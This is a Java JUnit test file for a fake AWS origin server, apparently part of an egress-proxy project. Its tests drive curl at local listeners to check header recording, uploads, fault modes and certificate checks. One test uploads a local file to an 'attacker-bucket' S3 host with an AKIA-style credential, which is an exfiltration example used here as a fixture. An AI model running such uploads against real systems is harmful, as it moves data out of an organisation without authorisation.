package io.sekisho.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The fake origin, driven by curl straight at its listeners (no proxy yet). */
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class FakeAwsOriginTest {

    @TempDir
    static Path tmp;
    static TestPki pki;
    static FakeAwsOrigin origin;
    static Curl curl;

    @BeforeAll
    static void start() {
        assumeTrue(Curl.available(), "curl is not installed");
        pki = TestPki.create(tmp.resolve("pki"));
        origin = FakeAwsOrigin.start(pki);
        curl = Curl.direct(tmp, pki.caPem(), origin);
    }

    @AfterAll
    static void stop() {
        if (origin != null) {
            origin.close();
        }
    }

    @BeforeEach
    void reset() {
        origin.clearRequests();
        origin.fault(FakeAwsOrigin.Fault.NONE);
    }

    @Test
    void recordsHeaderLinesInWireOrderAndCasing() {
        CommandResult result = curl.run("-o", "/dev/null", "-H", "X-Amz-Date: 20261122T140435Z",
                "-H", "x-AMZ-content-SHA256: UNSIGNED-PAYLOAD", "-H", "amz-sdk-request: attempt=1",
                "https://corp-data-bucket.s3.us-east-1.amazonaws.com/missing.txt");

        assertThat(result.succeeded()).as(result.describe()).isTrue();
        RecordedRequest request = origin.lastRequest().orElseThrow();
        List<String> names = request.headerNames();
        assertThat(names).containsSubsequence("Host", "X-Amz-Date", "x-AMZ-content-SHA256", "amz-sdk-request");
        assertThat(request.header("x-amz-content-sha256")).hasValue("UNSIGNED-PAYLOAD");
        assertThat(request.sni()).isEqualTo("corp-data-bucket.s3.us-east-1.amazonaws.com");
        assertThat(request.tls()).isTrue();
    }

    @Test
    void answers100ContinueBeforeTheBodyAndRecordsTheBody() throws Exception {
        Path file = Files.writeString(tmp.resolve("upload.txt"), "hello expect");

        CommandResult result = curl.run("-v", "-T", file.toString(), "-H", "Expect: 100-continue",
                "https://corp-data-bucket.s3.amazonaws.com/uploads/upload.txt");

        assertThat(result.succeeded()).as(result.describe()).isTrue();
        assertThat(result.stderr()).contains("HTTP/1.1 100 Continue");
        RecordedRequest request = origin.lastRequest().orElseThrow();
        assertThat(request.expectContinue()).isTrue();
        assertThat(request.bodyText()).isEqualTo("hello expect");
        assertThat(origin.s3().object("corp-data-bucket", "uploads/upload.txt").orElseThrow().content())
                .isEqualTo("hello expect".getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void keepsChunkedTransferEncodingInTheRecordAndRemovesOnlyItsFraming() throws Exception {
        Path file = Files.writeString(tmp.resolve("chunked.txt"), "streamed body");

        CommandResult result = curl.run("-T", file.toString(), "-H", "Transfer-Encoding: chunked",
                "https://corp-data-bucket.s3.amazonaws.com/chunked.txt");

        assertThat(result.succeeded()).as(result.describe()).isTrue();
        RecordedRequest request = origin.lastRequest().orElseThrow();
        assertThat(request.header("Transfer-Encoding")).hasValue("chunked");
        assertThat(request.bodyText()).isEqualTo("streamed body");
    }

    @Test
    void plainHttpListenerRecordsTheRequestAsNotTls() {
        CommandResult result = CommandResult.run(List.of("curl", "-sS", "-o", "/dev/null", "--connect-to",
                "::127.0.0.1:" + origin.httpPort(), "http://corp-data-bucket.s3.amazonaws.com/x"),
                Map.of("PATH", System.getenv("PATH")), tmp, java.time.Duration.ofSeconds(30));

        assertThat(result.succeeded()).as(result.describe()).isTrue();
        RecordedRequest request = origin.lastRequest().orElseThrow();
        assertThat(request.tls()).isFalse();
        assertThat(request.host()).isEqualTo("corp-data-bucket.s3.amazonaws.com");
    }

    @Test
    void theHttpsPortAlsoAnswersPlainHttpForUpstreamResolve() {
        CommandResult result = CommandResult.run(List.of("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--connect-to",
                "::127.0.0.1:" + origin.httpsPort(), "http://sqs.us-east-1.amazonaws.com/?Action=ListQueues"),
                Map.of("PATH", System.getenv("PATH")), tmp, java.time.Duration.ofSeconds(30));

        assertThat(result.stdout()).as(result.describe()).isEqualTo("200");
        assertThat(origin.lastRequest().orElseThrow().tls()).isFalse();
        assertThat(origin.resolvePatterns()).containsEntry(".amazonaws.com", "127.0.0.1:" + origin.httpsPort());
    }

    @Test
    void s3PostFormUploadAnswers204AndStoresTheFilePart() throws Exception {
        Path file = Files.writeString(tmp.resolve("form.txt"), "form upload");

        CommandResult result = curl.run("-o", "/dev/null", "-w", "%{http_code}", "-F", "key=drop/${filename}",
                "-F", "x-amz-credential=AKIA6RU73QDQRHBTHXS4/20261122/us-east-1/s3/aws4_request",
                "-F", "file=@" + file, "https://attacker-bucket.s3.amazonaws.com/");

        assertThat(result.stdout()).as(result.describe()).isEqualTo("204");
        assertThat(origin.s3().object("attacker-bucket", "drop/form.txt").orElseThrow().content())
                .isEqualTo("form upload".getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void overrideAnswersInsteadOfTheFakes() {
        origin.override(r -> r.path().equals("/teapot"), r -> FakeResponse.of(418, "text/plain", "short and stout"));

        CommandResult result = curl.run("-w", " %{http_code}", "https://sts.us-east-1.amazonaws.com/teapot");

        assertThat(result.stdout()).isEqualTo("short and stout 418");
    }

    @Test
    void noResponseFaultLeavesTheClientWaiting() {
        origin.fault(FakeAwsOrigin.Fault.NO_RESPONSE);

        CommandResult result = curl.run("--max-time", "2", "https://sts.us-east-1.amazonaws.com/");

        assertThat(result.exitCode()).as(result.describe()).isEqualTo(28); // CURLE_OPERATION_TIMEDOUT
        assertThat(origin.requests()).hasSize(1);
    }

    @Test
    void closeFaultHangsUpWithoutAResponse() {
        origin.fault(FakeAwsOrigin.Fault.CLOSE_WITHOUT_RESPONSE);

        CommandResult result = curl.run("https://sts.us-east-1.amazonaws.com/");

        assertThat(result.exitCode()).as(result.describe()).isEqualTo(52); // CURLE_GOT_NOTHING
    }

    @ParameterizedTest(name = "{0} -> curl exit {1}")
    @CsvSource({"VALID, 0", "EXPIRED, 60", "WRONG_HOST, 60", "SELF_SIGNED, 60"})
    void certificateModesAreWhatAVerifyingClientSees(FakeAwsOrigin.CertificateMode mode, int expectedExit) {
        try (FakeAwsOrigin bad = FakeAwsOrigin.builder(pki).certificateMode(mode).start()) {
            CommandResult result = Curl.direct(tmp, pki.caPem(), bad).run("-o", "/dev/null",
                    "https://sts.us-east-1.amazonaws.com/?Action=GetCallerIdentity");

            assertThat(result.exitCode()).as(result.describe()).isEqualTo(expectedExit); // 60 = CURLE_PEER_FAILED_VERIFICATION
        }
    }
}
